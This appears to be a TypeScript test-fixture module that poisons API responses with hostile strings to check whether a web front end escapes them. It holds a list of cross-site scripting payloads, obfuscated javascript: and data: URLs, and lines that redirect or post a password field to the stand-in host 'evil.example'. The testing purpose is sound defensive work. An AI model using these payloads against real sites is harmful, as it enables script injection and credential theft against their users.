/** A host that nothing may contact: a request to it means that a poisoned value was followed. */
export const EVIL_HOST = 'evil.example';

/** Part of every payload that is a text, so that a test can find it on the page. */
export const MARK = '毒';

/** Payloads that act where a text is taken for markup, with a right-to-left override and half of a surrogate pair. */
const MARKUP = [
  `${MARK}"'><script>alert('script')</script><img src=x onerror="alert('image')"><svg onload="alert('svg')">`,
  `<a href="javascript:alert('link')">x</a><iframe srcdoc="<script>alert(1)</script>"></iframe><base href="//${EVIL_HOST}/">`,
  `<meta http-equiv="refresh" content="0;url=https://${EVIL_HOST}/refresh"><form action="https://${EVIL_HOST}/form"><input name=password>`,
  `&lt;img src=x onerror=alert(2)&gt;%3Cscript%3Ealert(3)%3C/script%3E\${alert(4)}{{alert(5)}}\u202Etxt.exe\uD800`,
].join('');

/** Payloads that act where a text is followed as an address, in several spellings. */
const ADDRESSES = [
  `javascript:alert('${MARK}')`,
  `\u0001 JavaScript\t:\nalert('${MARK}')`,
  `data:text/html,<script>alert('${MARK}')</script>`,
  `//${EVIL_HOST}/${MARK}`,
  `java%73cript:alert('${MARK}')`,
  `vbscript:msgbox("${MARK}")`,
  `\\\\${EVIL_HOST}\\${MARK}`,
  `blob:https://${EVIL_HOST}/${MARK}`,
  `javascript&colon;alert('${MARK}')`,
  `/\t/${EVIL_HOST}/${MARK}`,
];

const WRONG: readonly unknown[] = [null, 0, true, [], {}, [[MARKUP]], { toString: MARKUP }, -1.5, MARKUP.repeat(20)];

/** The ways to poison, by name: the payloads that replace texts, in turn. */
export const POISONS: Readonly<Record<string, readonly unknown[]>> = {
  markup: [MARKUP],
  addresses: ADDRESSES,
  'wrong types and lengths': WRONG,
};

/** Texts of every kind for input other than answers: a URL parameter, a stored value. */
export const HOSTILE_TEXTS: readonly string[] = [MARKUP, ...ADDRESSES, JSON.stringify({ id: MARKUP }), '__proto__'];

/** Numbers, dates and single words, which code reads and no visitor. */
const OF_A_PROGRAM = /^(?:[\w.:+-]{0,40}|\d{4}-\d\d-\d\d \d\d:\d\d:\d\d)$/;

export interface PoisonOptions {
  readonly payloads: readonly unknown[];
  /** The index of the first payload to use. */
  readonly turn?: number;
  /** Leaves such values alone: without them a page shows little that could be checked. */
  readonly gently?: boolean;
}

/** Replaces every text in a value by a payload, at any depth, so that new fields need no list. */
function poisoned(value: unknown, { payloads, turn = 0, gently = false }: PoisonOptions): unknown {
  let next = turn;
  const poison = (part: unknown): unknown => {
    if (typeof part === 'string') {
      if (gently && OF_A_PROGRAM.test(part)) return part;
      next += 1;
      return payloads[(next - 1) % payloads.length];
    }
    if (Array.isArray(part)) return part.map(poison);
    if (typeof part !== 'object' || part === null) return part;
    return Object.fromEntries(Object.entries(part).map(([field, inside]) => [field, poison(inside)]));
  };
  return poison(value);
}

/** Poisons an API envelope: its data, and the message of an error. */
export function poisonedEnvelope(text: string, options: PoisonOptions): string {
  const parsed: unknown = JSON.parse(text);
  return JSON.stringify(poisoned(parsed, options));
}
